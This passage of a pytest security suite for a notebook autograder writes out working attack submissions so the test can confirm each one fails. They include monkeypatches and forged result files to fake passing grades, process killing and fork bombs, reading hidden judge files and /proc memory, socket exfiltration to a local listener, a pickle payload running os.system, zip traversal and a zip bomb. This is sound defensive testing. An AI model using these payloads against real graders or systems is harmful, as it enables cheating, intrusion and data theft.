"""Attacks on the batch grader and the Gradescope zip (issue 7, classes 1 to 6; issue 15,
classes 7 to 9: channels between submissions, hidden inputs reaching a visible output, uploads
that cannot be read or named; without a PID namespace, an escape with an empty environment and a
notebook reading other results (classes 4 and 3); class 10: ``otter run`` on the zip; issue 13,
class 11: probes swapped for forged ones through import hooks or the worker's globals).

Every attack is a submission for assignment 01 made here from the committed blank notebook, the
solution, or the solution with a known-wrong answer (an honest 8 of 11), with one cell added or
changed, or a malicious file around it. All of them are graded in ONE local batch (a separate
process, so an attack that kills its grader cannot take pytest with it) beside an honest solution,
and a selection again through the built Gradescope zip in a simulated ``/autograder``. For each:

* no points beyond what the honest part of the notebook earns (its base notebook's score),
* no hidden-test text in the visible fields of ``results.json``,
* the batch goes on: the honest solution keeps full marks and every submission has one row,
* a plain-words reason where the attack is detectable.

Class 3 (reading hidden material): when the grader runs as root (Gradescope, and the test
machine), each child runs under its own uid and the judges folder is closed to it; the probes, which
hold only hidden inputs, stay readable. Each class-3 attack writes what it stole to the shared folder,
and the test reads it there: nothing of the judges may be in it.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import pickle
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest

from autodiff_course import paths
from autodiff_course.grade import submissions
from autodiff_course.grade.protocol import MAX_MESSAGE_CHARS
from helpers import release_notebook, with_cell, with_code, writable_by_children

NAME = "01_pickle_datasets"
SOLUTION = paths.ROOT / "solutions" / NAME / f"{NAME}.ipynb"
BLANK = paths.ROOT / "student_release" / NAME / f"{NAME}.ipynb"
VARIANTS = paths.ROOT / "assignments" / NAME / "variants"
ARCHIVE = paths.ROOT / "autograder" / NAME / f"{NAME}-autograder.zip"
CHECKS_SOURCE = paths.grading_dir(NAME) / "probes.py"
JUDGES_SOURCE = paths.grading_dir(NAME) / "judges.py"
PACKAGE_SOURCE = paths.ROOT / "src" / "autodiff_course"
FULL = 13.0
WRONG = FULL - 3  # the solution with species_counts transposed: 3 points lost, on that question only
CELL_LIMIT = 5  # seconds per cell: the solution's slowest cell takes under 1.5 s
TIMEOUT = 60  # seconds per notebook

pytestmark = pytest.mark.slow


# --------------------------------------------------------------------------- notebooks


def solution_nb() -> nbformat.NotebookNode:
    return release_notebook("solutions", NAME)


def blank_nb() -> nbformat.NotebookNode:
    return nbformat.read(BLANK, as_version=4)


def wrong_nb() -> nbformat.NotebookNode:
    return with_code(solution_nb(), "def species_counts", (VARIANTS / "species_counts" / "wrong_transposed.py").read_text())


BASES = {"blank": (blank_nb, 0.0), "wrong": (wrong_nb, WRONG), "solution": (solution_nb, FULL)}


def appended(nb, source: str) -> nbformat.NotebookNode:
    return with_cell(nb, source)


inserted = with_cell


@dataclass
class Attack:
    name: str
    klass: int
    base: str  # its honest score is the ceiling
    make: object  # (folder, shared dir) -> the submission path
    flag: str = ""  # words expected in the reason or notes (plain-words flag), when detectable
    status: tuple = ()  # allowed statuses; empty: any
    gradescope: bool = False  # also graded through the zip
    after: object = None  # (shared dir) -> None: extra assertions (no side effects left behind)
    min_score: float | None = None  # when the honest part must still earn its points


def cell_attack(name, klass, base, source, **kw) -> Attack:
    def make(folder: Path, shared: Path) -> Path:
        nb = BASES[base][0]()
        text = source.replace("SHARED", repr(str(shared))).replace("MARK", MARK)
        path = folder / f"{name}.ipynb"
        nbformat.write(appended(nb, text), str(path))
        return path

    return Attack(name, klass, base, make, **kw)


def nb_attack(name, klass, base, edit, **kw) -> Attack:
    def make(folder: Path, shared: Path) -> Path:
        nb = edit(BASES[base][0]())
        path = folder / f"{name}.ipynb"
        nbformat.write(nb, str(path))
        return path

    return Attack(name, klass, base, make, **kw)


# --------------------------------------------------------------------------- class 1: monkeypatching

FORGED_EQ = """
import numpy as np
class Always(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool) if np.ndim(other) else True
    def __ne__(self, other): return False
    def all(self, *a, **k): return True
class Yes(list):
    def __eq__(self, other): return True
class One(float):
    def __eq__(self, other): return True
def species_counts(trajectory):
    return np.zeros((len(trajectory), 3), np.int64).view(Always)
def load_trajectories(folder):
    return Yes()
"""

ATTACKS: list[Attack] = [
    cell_attack("patch_numeric", 1, "wrong", """
import numpy as np, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
_asarray = np.asarray
np.asarray = lambda *a, **k: _asarray([[0, 0, 0]])
torch.Tensor.__eq__ = lambda self, other: True
""", gradescope=True),  # np.asarray broken: the probes themselves fail, so it may lose more than 3 points
    cell_attack("patch_builtins", 1, "wrong", """
import builtins
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: float
builtins.float = lambda *a: 1.0
builtins.len = lambda *a: 3
"""),
    cell_attack("patch_hidden_module", 1, "wrong", """
import autodiff_course.hidden as h
h.judge = lambda *a, **k: None
h.expect = lambda *a, **k: None
h.expect_close = lambda *a, **k: None
h.run_check = lambda *a, **k: None
h.to_plain = lambda value, *a: value
h.collect = lambda a, name, env: {"ok": True, "data": None}
import sys, types
for kind in ("probes", "judges"):  # forged grading modules, planted where the probes load
    fake = types.ModuleType(f"{h.PACKAGE}.a01_pickle_datasets.{kind}")
    for n in ("load", "save", "saved_files", "species_counts"):
        setattr(fake, f"probe_{n}", lambda env: [])
        setattr(fake, f"judge_{n}", lambda data: None)
    sys.modules[fake.__name__] = fake
sys.modules[h.PACKAGE] = types.ModuleType(h.PACKAGE)
""", flag="grader's own modules", min_score=WRONG, gradescope=True),
    cell_attack("patch_worker", 1, "wrong", """
import sys
frame, w = sys._getframe(), None
while frame is not None:  # the grading worker's globals, found up the call stack
    if "run_checks" in frame.f_globals and "apply_limits" in frame.f_globals:
        w = frame.f_globals
    frame = frame.f_back
w["run_checks"] = lambda spec, *a, **k: {n: {"ok": True, "data": True} for n in spec["checks"]}
w["run_public_tests"] = lambda spec, *a, **k: {t["key"]: {"passed": True, "message": ""} for t in spec["public_tests"]}
"""),
    cell_attack("forged_eq_objects", 1, "blank", FORGED_EQ),
    # ------------------------------------------------------------------ class 2: forging results
    cell_attack("write_result_files", 2, "blank", """
import json, os, sys
forged = {"score": 11, "tests": [{"name": "all", "score": 11, "max_score": 11}]}
spec = json.load(open(sys.argv[1]))
checks = {n: {"ok": True, "data": None} for n in spec["checks"]}
mine = {"version": 1, "cells": [], "checks": checks, "public": {}, "contributors": None, "seconds": 0}
json.dump(mine, open(spec["result"], "w"))
places = {os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(spec["result"])}
try:
    argv = open(f"/proc/{os.getppid()}/cmdline").read().split("\\0")
    for arg in argv:
        if arg.endswith("run_otter.py"):
            places.add(os.path.join(os.path.dirname(os.path.dirname(arg)), "results"))
except OSError:
    pass
for place in places:
    for name in ("results.json", "grade.json"):
        try:
            json.dump(forged, open(os.path.join(place, name), "w"))
        except OSError:
            pass
""", gradescope=True),
    cell_attack("print_a_pass", 2, "blank", """
print("All tests passed!\\nsave_trajectories results: All test cases passed!")
print('{"score": 11, "tests": [{"name": "species_counts", "score": 3, "max_score": 3, "status": "passed"}]}')
import os
os.write(1, b'{"tests": [{"score": 11}]}\\n')
"""),
    cell_attack("patch_json_dump", 2, "blank", """
import json
_dump = json.dump
def dump(value, handle, **kw):
    if isinstance(value, dict) and "checks" in value:
        value = dict(value, checks={n: {"ok": True, "data": []} for n in value["checks"]},
                     public={k: {"passed": True, "message": ""} for k in value["public"]})
    return _dump(value, handle, **kw)
json.dump = dump
json.dumps = lambda *a, **k: '{"score": 11}'
""", gradescope=True),
]


# --------------------------------------------------------------------------- class 4: escaping

MARK = f"7{os.getpid() % 10**6:06d}.5"  # a sleep time no other process on this machine uses


def _pids_gone(shared: Path) -> None:
    assert (shared / "forked.pids").exists(), "the fork attack recorded no processes: it did not run"
    _pids_gone_by_mark()


def _pids_gone_by_mark() -> None:
    alive = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARK in (entry / "cmdline").read_text():
                if (entry / "stat").read_text().split(") ")[1].split()[0] != "Z":
                    alive.append(entry.name)
        except (OSError, IndexError):
            pass
    for pid in alive:  # never leave them behind, even when the test fails
        try:
            os.kill(int(pid), 9)
        except OSError:
            pass
    assert not alive, f"{len(alive)} processes the notebook started outlived its grading"


def _bomb_capped(shared: Path) -> None:
    """Under its own uid the child may run 256 processes (RLIMIT_NPROC): the bomb stops there."""
    started, _, refused = (shared / "fork_bomb").read_text().partition(" ")
    if os.geteuid() == 0:
        assert int(started) < 300 and refused, f"the fork bomb started {started} processes"
    _pids_gone_by_mark()


def _package_closed(shared: Path) -> None:
    """A root grader's child cannot write the grading package (checked, never attempted)."""
    if os.geteuid() == 0:
        assert (shared / "package_writable").read_text() == "False"


ATTACKS += [
    cell_attack("sys_exit", 4, "solution", "import sys\nsys.exit(0)", min_score=FULL),
    cell_attack("os_exit", 4, "solution", "import os\nos._exit(0)", flag="exit code 0", status=("crashed",),
                min_score=FULL, gradescope=True),
    cell_attack("kill_parent_sigkill", 4, "solution", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
                min_score=FULL, gradescope=True),  # its parent is the namespace's shielded first process
    cell_attack("kill_own_group", 4, "solution", "import os, signal\nos.kill(0, signal.SIGKILL)",
                flag="killed its own grading process", min_score=FULL),
    cell_attack("kill_parent_sigterm", 4, "solution", "import os, signal\nos.kill(os.getppid(), signal.SIGTERM)",
                min_score=FULL, gradescope=True),
    cell_attack("kill_parent_group", 4, "solution",
                "import os, signal\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)", min_score=FULL),
    cell_attack("fork_and_escape", 4, "blank", """
import os, time
kids = []
for _ in range(150):
    pid = os.fork()
    if pid == 0:
        os.setsid()  # out of the process group the grader kills
        os.execv("/bin/sleep", ["sleep", "MARK"])
    kids.append(pid)
with open(os.path.join(SHARED, "forked.pids"), "a") as handle:
    handle.write(" ".join(map(str, kids)) + "\\n")
""", after=_pids_gone, gradescope=True),
    cell_attack("fork_bomb", 4, "solution", """
import os
started, refused = 0, ""
try:
    for _ in range(5000):
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "MARK"])
        started += 1
except OSError as error:
    refused = error.strerror
os.umask(0)  # 0666: a child of another job slot (another uid) appends to it later
with open(os.path.join(SHARED, "fork_bomb"), "w") as handle:
    handle.write(f"{started} {refused}")
""", after=lambda shared: _bomb_capped(shared), min_score=FULL),
    cell_attack("write_the_package", 4, "solution", """
import os, autodiff_course.hidden
writable = os.access(autodiff_course.hidden.__file__, os.W_OK)
os.umask(0)  # 0666: a child of another job slot (another uid) appends to it later
with open(os.path.join(SHARED, "package_writable"), "w") as handle:
    handle.write(str(writable))
""", after=lambda shared: _package_closed(shared), min_score=FULL, gradescope=True),
    cell_attack("infinite_loop", 4, "solution", "while True:\n    pass", flag="longer than", status=("timeout",),
                min_score=FULL),
    cell_attack("memory_exhaustion", 4, "solution", "blob = bytearray(8 * 2**30)", flag="MemoryError",
                min_score=FULL),
    cell_attack("output_flood", 4, "blank", """
import os, sys
chunk = "flood " * 200_000
for _ in range(100):
    sys.stdout.write(chunk)
    sys.stderr.write(chunk)
for _ in range(50):
    os.write(1, chunk.encode())
""", gradescope=True),
    cell_attack("huge_file", 4, "solution", """
with open("huge.bin", "wb") as handle:
    handle.seek(50 * 2**30)
    handle.write(b"x")
""", flag="File too large", min_score=FULL),
]


# --------------------------------------------------------------------------- class 3: reading hidden material


def _nothing_stolen(shared: Path) -> None:
    """Nothing of the judges, the master or the solution in what the reading attacks kept."""
    stolen = "".join(p.read_text(errors="replace") for p in shared.glob("stolen_*"))
    assert list(shared.glob("stolen_*")), "the reading attack did not run"
    readable = readable_text()
    secret = [line.strip() for path in (JUDGES_SOURCE, VARIANTS.parent / f"{NAME}.py")
              for line in path.read_text().splitlines() if len(line.strip()) >= 25 and line.strip() not in readable]
    assert len(secret) > 20
    leaked = [line for line in secret if line in stolen]
    assert not leaked and "def judge_species_counts" not in stolen, f"the notebook read hidden files: {leaked[:2]}"
    assert "PK\x03\x04" not in stolen, "the notebook read the autograder zip"


STEAL = """
import os
def keep(name, text):
    path = os.path.join(SHARED, "stolen_" + name)
    os.umask(0)  # 0666: a child of another job slot (another uid) appends to it later
    with open(path, "a") as handle:
        handle.write(text + "\\n")
"""

class _Listener:
    """A TCP server on this machine's loopback: a notebook that reaches it could send anything out."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            connection, _ = self.socket.accept()
            with connection:
                self.received.append(connection.recv(1000))


_LISTENER: list[_Listener] = []


def make_network_exfiltration(folder: Path, shared: Path) -> Path:
    if not _LISTENER:
        _LISTENER.append(_Listener())
    nb = appended(BASES["wrong"][0](), f"""
import socket
try:
    with socket.create_connection(("127.0.0.1", {_LISTENER[0].port}), timeout=3) as channel:
        channel.sendall(b"the hidden material")
    print("sent")
except OSError as error:
    print("refused:", error)
""")
    path = folder / "network_exfiltration.ipynb"
    nbformat.write(nb, str(path))
    return path


def _nothing_sent(shared: Path) -> None:
    assert _LISTENER, "the network attack was not made"
    assert not _LISTENER[0].received, "a notebook reached the network from its grading process"


ATTACKS += [
    Attack("network_exfiltration", 3, "wrong", make_network_exfiltration, after=_nothing_sent, gradescope=True),
    cell_attack("import_judges", 3, "wrong", STEAL + """
keep("import", "tried")
import importlib, inspect
from autodiff_course import hidden
try:
    module = hidden.judges_module("01_pickle_datasets")
except Exception:
    module = importlib.import_module(hidden.PACKAGE + ".a01_pickle_datasets.judges")
text = inspect.getsource(module)
keep("import", text)
raise RuntimeError(text.replace("\\n", " ")[:3000])
""", after=_nothing_stolen, gradescope=True),
    cell_attack("read_judges_files", 3, "wrong", STEAL + """
import autodiff_course, pathlib
keep("files", "tried")
root = pathlib.Path(autodiff_course.__file__).parents[1]  # the package and what lies beside it
for path in sorted(root.rglob("*")):
    try:
        text = path.read_text(errors="replace")
    except OSError:
        continue
    if "judges" in path.parts or "judge_" in text:
        keep("files", text)
        raise RuntimeError(text.replace("\\n", " ")[:3000])
""", after=_nothing_stolen, gradescope=True),
    cell_attack("read_the_course_repository", 3, "wrong", STEAL + f"""
keep("repository", "tried")
for path in {[str(SOLUTION), str(VARIANTS.parent / f"{NAME}.py"), str(ARCHIVE), str(JUDGES_SOURCE)]!r}:
    try:
        keep("repository", open(path, errors="replace").read())
    except OSError as error:
        keep("repository", "refused: " + type(error).__name__)
""", after=_nothing_stolen, gradescope=True),
    cell_attack("scan_memory_of_all_processes", 3, "wrong", STEAL + """
keep("memory", "tried")
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        regions = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for region in regions:
                low, high = (int(x, 16) for x in region.split()[0].split("-"))
                if not region.split()[1].startswith("r") or high - low > 1 << 24:
                    continue
                try:
                    memory.seek(low)
                    chunk = memory.read(high - low)
                except (OSError, ValueError, OverflowError):
                    continue
                at = chunk.find(b"judge_species_counts")
                if at >= 0:
                    keep("memory", chunk[max(0, at - 200):at + 2000].decode("latin-1"))
    except OSError:
        continue
""", after=_nothing_stolen),
]


# --------------------------------------------------------------------------- class 5: malicious files


class _Boom:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def export_zip(folder: Path, name: str, nb, extra: dict[str, bytes]) -> Path:
    path = folder / f"{name}.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(f"{NAME}.ipynb", nbformat.writes(nb))
        for entry, data in extra.items():
            zf.writestr(entry, data)
    return path


def _no_marker(shared: Path) -> None:
    assert not list(shared.glob("marker*")), "a file from the submission ran code when the grader read it"


def make_pickle_log(folder, shared):
    return export_zip(folder, "pickle_log", blank_nb(), {".OTTER_LOG": pickle.dumps(_Boom(shared / "marker_pickle")),
                                                          "data.pkl": pickle.dumps(_Boom(shared / "marker_pkl"))})


def make_dill_log(folder, shared):
    import dill

    return export_zip(folder, "dill_log", blank_nb(), {".OTTER_LOG": dill.dumps(_Boom(shared / "marker_dill"))})


def make_symlink_passwd(folder, shared):
    path = folder / "symlink_passwd.ipynb"
    path.symlink_to("/etc/passwd")
    return path


def make_symlink_tests(folder, shared):
    """A folder whose notebook is a link to the autograder's hidden tests, next to a link to /etc."""
    sub = folder / "symlink_folder"
    sub.mkdir()
    (sub / f"{NAME}.ipynb").symlink_to(paths.ROOT / "autograder" / NAME / "tests" / "species_counts.py")
    (sub / "etc").symlink_to("/etc")
    return sub


def make_traversal(folder, shared):
    path = folder / "zip_traversal.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(f"../../../{NAME}.ipynb", nbformat.writes(blank_nb()))
        zf.writestr("../../marker_traversal", b"written outside")
        zf.writestr(str(shared / "marker_absolute"), b"written outside")
    return path


def make_zip_bomb(folder, shared):
    """A 4 MB zip whose notebook entry inflates to 4 GB, made without writing GB anywhere: one
    deflated 16 MB block of zeros, flushed so that copies of it can follow each other."""
    size, chunk = 4 * 2**30, b"\0" * 2**24
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = block * (size // len(chunk)) + b"\x03\x00"  # an empty final block ends the stream
    crc = 0
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    return _bomb(folder / "zip_bomb.zip", body, size, crc)


def _bomb(path: Path, body: bytes, size: int, crc: int) -> Path:
    """Write a zip by hand (zip64 sizes) with one deflated entry of ``size`` bytes."""
    import struct

    name = f"{NAME}.ipynb".encode()
    extra = struct.pack("<HHQQ", 1, 16, size, len(body))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0x21, crc, 0xFFFFFFFF, 0xFFFFFFFF,
                        len(name), len(extra)) + name + extra
    cextra = struct.pack("<HHQQ", 1, 16, size, len(body))
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0x21, crc, 0xFFFFFFFF, 0xFFFFFFFF,
                          len(name), len(cextra), 0, 0, 0, 0, 0) + name + cextra
    offset = len(local) + len(body)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), offset, 0)
    path.write_bytes(local + body + central + end)
    return path


ATTACKS += [
    Attack("pickle_log", 5, "blank", make_pickle_log, after=_no_marker, gradescope=True),
    Attack("dill_log", 5, "blank", make_dill_log, after=_no_marker, gradescope=True),
    Attack("symlink_passwd", 5, "blank", make_symlink_passwd, flag="symbolic link", status=("invalid",)),
    Attack("symlink_folder", 5, "blank", make_symlink_tests, flag="symbolic link", status=("invalid",),
           gradescope=True),
    Attack("zip_traversal", 5, "blank", make_traversal, flag="path outside the zip", after=_no_marker,
           gradescope=True),
    Attack("zip_bomb", 5, "blank", make_zip_bomb, flag="size limit", status=("invalid",), gradescope=True),
]


# --------------------------------------------------------------------------- class 6: editing the notebook


def drop_checks(nb):
    nb.cells = [c for c in nb.cells if "grader." not in c.source and "otter" not in c.source]
    return nb


def duplicate_and_reorder(nb):
    code = [c for c in nb.cells if c.cell_type == "code"]
    checks = [c for c in code if "grader.check" in c.source]
    nb.cells = [copy.deepcopy(c) for c in checks + checks + list(reversed(nb.cells)) + checks]
    for index, cell in enumerate(nb.cells):
        cell.id = f"shuffled-{index}"
    return nb


def odd_metadata(nb):
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R"}
    nb.metadata["otter"] = {"OK_FORMAT": True, "tests": {"species_counts": {"name": "species_counts", "points": 3,
                                                                             "suites": [{"cases": []}]}}}
    for cell in nb.cells:
        cell.metadata["tags"] = ["otter_ignore", "otter_assign_solution_cell"]
        cell.metadata["editable"] = False
    return nb


def inline_tests(nb):
    """Paste the autograder's own test files into the notebook, with asserts that always pass."""
    for path in sorted((paths.ROOT / "autograder" / NAME / "tests").glob("*.py")):
        nb.cells.append(nbformat.v4.new_code_cell(f"# {path.name}\nOK_FORMAT = True\n" + 'test = {"points": 3}'))
    nb.cells.append(nbformat.v4.new_code_cell("grader.check_all()\nprint('All tests passed!')"))
    return nb


def other_assignment(nb):
    others = sorted(p for p in (paths.ROOT / "solutions").glob("*/*.ipynb") if NAME not in p.name)
    return nbformat.read(others[0], as_version=4)


def raw_cells(nb):
    """The wrong answer's code cells turned into raw and markdown cells: nothing runs."""
    for cell in nb.cells:
        if cell.cell_type == "code" and "def species_counts" in cell.source:
            cell.cell_type = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return nb


ATTACKS += [
    nb_attack("no_check_cells", 6, "solution", drop_checks, min_score=FULL, gradescope=True),
    nb_attack("duplicated_reordered", 6, "blank", duplicate_and_reorder),
    nb_attack("odd_metadata", 6, "blank", odd_metadata, gradescope=True),
    nb_attack("odd_metadata_solution", 6, "solution", odd_metadata, min_score=FULL),
    nb_attack("tests_inlined", 6, "blank", inline_tests),
    nb_attack("other_assignment", 6, "blank", other_assignment, flag="this is the notebook of", gradescope=True),
    nb_attack("raw_cells", 6, "wrong", raw_cells),
]


# --------------------------------------------------------------------------- class 7: channels between submissions

IPC_KEY = 0x5EC00000 + (os.getpid() % 0xFFFF) * 8  # System V keys no other process here uses
IPC_NAME = f"autodiff-note-{os.getpid()}"  # POSIX names: a message queue, a shared-memory file

IPC_SETUP = f"""
import ctypes, ctypes.util, os
libc = ctypes.CDLL(None, use_errno=True)
try:
    rt = ctypes.CDLL(ctypes.util.find_library("rt") or "librt.so.1", use_errno=True)
except OSError:
    rt = libc
KEY, NAME, NOTE = {IPC_KEY}, {IPC_NAME!r}, b"note from the previous submission"
libc.shmat.restype = ctypes.c_void_p
def keep(name, text):
    path = os.path.join(SHARED, name)
    os.umask(0)  # 0666: a child of another job slot (another uid) appends to it later
    with open(path, "a") as handle:
        handle.write(text + "\\n")
"""

IPC_LEAVE = IPC_SETUP + """
made = []
for offset in range(4):  # four System V segments, as in the issue (small ones here)
    shmid = libc.shmget(KEY + offset, 1 << 20, 0o1666)
    if shmid >= 0:
        ctypes.memmove(libc.shmat(shmid, None, 0), NOTE, len(NOTE))
        made.append(f"shm {shmid}")
if libc.semget(KEY + 4, 1, 0o1666) >= 0:
    made.append("sem")
queue = libc.msgget(KEY + 5, 0o1666)
if queue >= 0:
    message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + len(NOTE))
    ctypes.c_long.from_buffer(message).value = 1
    message[ctypes.sizeof(ctypes.c_long):] = NOTE
    if libc.msgsnd(queue, message, len(NOTE), 0o4000) == 0:
        made.append("msg")
mq = rt.mq_open(("/" + NAME).encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
if mq >= 0 and rt.mq_send(mq, NOTE, len(NOTE), 0) == 0:
    made.append("mqueue")
try:
    from multiprocessing import resource_tracker, shared_memory
    block = shared_memory.SharedMemory(NAME, create=True, size=4096)
    block.buf[:len(NOTE)] = NOTE
    resource_tracker.unregister(block._name, "shared_memory")  # outlive this process, as shm_open does
    made.append("shared_memory")
except Exception as error:
    made.append(f"no shared_memory ({error})")
for path in (f"/dev/mqueue/{NAME}", f"/dev/{NAME}", f"/tmp/{NAME}"):
    try:
        with open(path, "wb") as handle:
            handle.write(NOTE)
        made.append(path)
    except OSError:
        pass
keep("ipc_left", " ".join(made))
keep("dev_listing", " ".join(sorted(os.listdir("/dev"))))
"""

IPC_READ = IPC_SETUP + """
found = ["tried"]
for offset in range(4):
    shmid = libc.shmget(KEY + offset, 0, 0)
    if shmid >= 0:
        found.append("shm: " + ctypes.string_at(libc.shmat(shmid, None, 0o10000), len(NOTE)).decode("latin-1"))
if libc.semget(KEY + 4, 0, 0) >= 0:
    found.append("sem")
queue = libc.msgget(KEY + 5, 0)
if queue >= 0:
    message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 100)
    size = libc.msgrcv(queue, message, 100, 0, 0o4000)
    found.append("msg: " + message.raw[ctypes.sizeof(ctypes.c_long):][:max(size, 0)].decode("latin-1"))
mq = rt.mq_open(("/" + NAME).encode(), os.O_RDONLY | os.O_NONBLOCK)
if mq >= 0:
    buffer = ctypes.create_string_buffer(1 << 16)
    size = rt.mq_receive(mq, buffer, 1 << 16, None)
    found.append("mqueue: " + buffer.raw[:max(size, 0)].decode("latin-1"))
for path in (f"/dev/shm/{NAME}", f"/dev/mqueue/{NAME}", f"/dev/{NAME}", f"/tmp/{NAME}"):
    try:
        found.append(f"{path}: " + open(path, "rb").read(100).decode("latin-1"))
    except OSError:
        pass
for kind in ("shm", "sem", "msg"):  # whatever System V objects this namespace holds, ours or not
    try:
        found += [f"{kind} listed: {line.split()[0]}" for line in open(f"/proc/sysvipc/{kind}").read().splitlines()[1:]]
    except OSError:
        pass
keep("ipc_found", " | ".join(found))
"""


def machine_ipc() -> dict[str, list[str]]:
    """The System V objects of this machine's IPC namespace (keys in hex) and, as root, its POSIX
    message queues (listed through an mqueue mount in a private mount namespace)."""
    found = {}
    for kind in ("shm", "sem", "msg"):
        lines = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
        found[kind] = [f"{int(line.split()[0]):x}" for line in lines]
    found["mqueue"] = []
    if os.geteuid() == 0:
        where = tempfile.mkdtemp(prefix="mqueue-")
        listing = subprocess.run(["unshare", "--mount", "sh", "-c", f"mount -t mqueue none {where} && ls -A {where}"],
                                 capture_output=True, text=True, timeout=30)
        found["mqueue"] = listing.stdout.split()
        os.rmdir(where)
    found["dev_shm"] = sorted(p.name for p in Path("/dev/shm").iterdir()) if Path("/dev/shm").is_dir() else []
    return found


def _ours(found: dict[str, list[str]]) -> list[str]:
    keys = {f"{IPC_KEY + offset:x}" for offset in range(6)}
    return [f"{kind} {name}" for kind, names in found.items() for name in names
            if name in keys or IPC_NAME in name]


def _no_ipc_left(shared: Path) -> None:
    """What the notebook made (System V segments, a semaphore, a message queue, a POSIX queue and
    shared memory) is gone from the machine once it is graded."""
    left = (shared / "ipc_left").read_text()
    assert "shm" in left and "msg" in left and "mqueue" in left, f"the notebook made no IPC objects: {left}"
    assert not _ours(machine_ipc()), f"IPC objects outlived the grading: {_ours(machine_ipc())}"
    assert f"/dev/{IPC_NAME}" not in left, "the notebook could write into /dev"
    if os.geteuid() == 0:  # enclosed: a few devices alone, not the machine's /dev
        from autodiff_course.grade.enclosure import DEV_LINKS, DEVICES

        for listing in (shared / "dev_listing").read_text().splitlines():
            assert set(listing.split()) <= {*DEVICES, *DEV_LINKS, "shm"}, f"the machine's /dev: {listing[:300]}"


def _no_note_met(shared: Path) -> None:
    """The second notebook found nothing the first left (nor any System V object at all)."""
    found = (shared / "ipc_found").read_text()
    assert "tried" in found, "the reading notebook did not run"
    assert "note from" not in found and "listed" not in found and "sem" not in found, found


ATTACKS += [
    cell_attack("ipc_leave_a_note", 7, "solution", IPC_LEAVE, min_score=FULL, after=_no_ipc_left, gradescope=True),
    cell_attack("ipc_read_the_note", 7, "solution", IPC_READ, min_score=FULL, after=_no_note_met, gradescope=True),
]


# --------------------------------------------------------------------------- class 8: hidden inputs to visible output

STASH_HIDDEN_INPUTS = """
import os
import numpy as np
_honest_save = save_trajectories
SEEN = []
def save_trajectories(arrays, folder):
    public = all(np.all(np.asarray(a) == 0) or np.all(np.asarray(a) == 1) for a in arrays)  # the public test's
    if public and SEEN:
        raise AssertionError("the inputs I was given before: " + " ".join(SEEN))
    if not public:  # the grader's own inputs: remember them
        SEEN.extend(f"{v:.6f}" for a in arrays for v in np.asarray(a, float).ravel()[:4])
        os.umask(0)  # 0666: a child of another job slot (another uid) appends to it later
        with open(os.path.join(SHARED, "stashed_inputs"), "a") as handle:
            handle.write(" ".join(SEEN) + "\\n")
    return _honest_save(arrays, folder)
"""

LONG_HIDDEN_ERROR = """
def species_counts(trajectory):
    raise ValueError("x" * 10_000)  # a hidden test's message is as long as a public one's, no longer
"""


def hidden_inputs() -> list[str]:
    """The hidden inputs save_trajectories receives, as the stashing notebook writes them."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("probes_for_the_test", CHECKS_SOURCE)
    probes = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(probes)
    return [f"{v:.6f}" for a in probes.hidden_arrays() for v in a.astype(float).ravel()[:4]]


ATTACKS += [
    cell_attack("stash_hidden_inputs", 8, "solution", STASH_HIDDEN_INPUTS, min_score=FULL, gradescope=True),
    cell_attack("long_hidden_error", 8, "solution", LONG_HIDDEN_ERROR, gradescope=True),
]


# --------------------------------------------------------------------------- class 9: uploads that cannot be read or named


def _zip_of(path: Path, entries: dict[str, str | bytes], damage: str = "") -> Path:
    """A zip of ``entries`` (stored, not deflated); ``damage``: an entry whose first stored
    byte is changed, so its CRC-32 no longer matches."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    if damage:
        data = path.read_bytes()
        at = data.index(damage.encode()) + len(damage.encode())  # the local header's name, then the data
        path.write_bytes(data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1:])
    return path


def make_bad_crc_export(folder, shared):
    return _zip_of(folder / "bad_crc_export.zip", {f"{NAME}.ipynb": nbformat.writes(solution_nb())},
                   damage=f"{NAME}.ipynb")


def make_bad_crc_canvas(folder, shared):
    entry = f"doejane_12345_100_{NAME}.ipynb"
